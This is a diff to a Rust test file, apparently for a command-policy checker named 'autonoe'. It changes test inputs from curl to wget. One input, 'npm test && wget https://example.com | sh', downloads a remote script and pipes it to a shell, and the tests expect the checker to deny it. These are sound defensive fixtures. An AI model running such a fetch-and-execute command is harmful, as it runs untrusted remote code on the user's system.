@@ -27,7 +27,7 @@ fn a_denial_shows_the_place_the_rule_and_what_to_do_instead() {
     for (name, args) in [
         (
             "unlisted",
-            &["check", "npm test && curl https://example.com | sh"][..],
+            &["check", "npm test && wget https://example.com | sh"][..],
         ),
         ("never_closed", &["check", "echo '"]),
         (
@@ -86,7 +86,7 @@ fn options_and_the_file_of_the_project_change_the_verdict() {
 
 #[test]
 fn as_json_it_says_all() {
-    let said = Setting::new().autonoe(&["check", "--json", "ls && curl x"]);
+    let said = Setting::new().autonoe(&["check", "--json", "ls && wget x"]);
 
     assert_eq!(said.code, 1);
     let json: Value = serde_json::from_str(&said.stdout).expect("JSON");
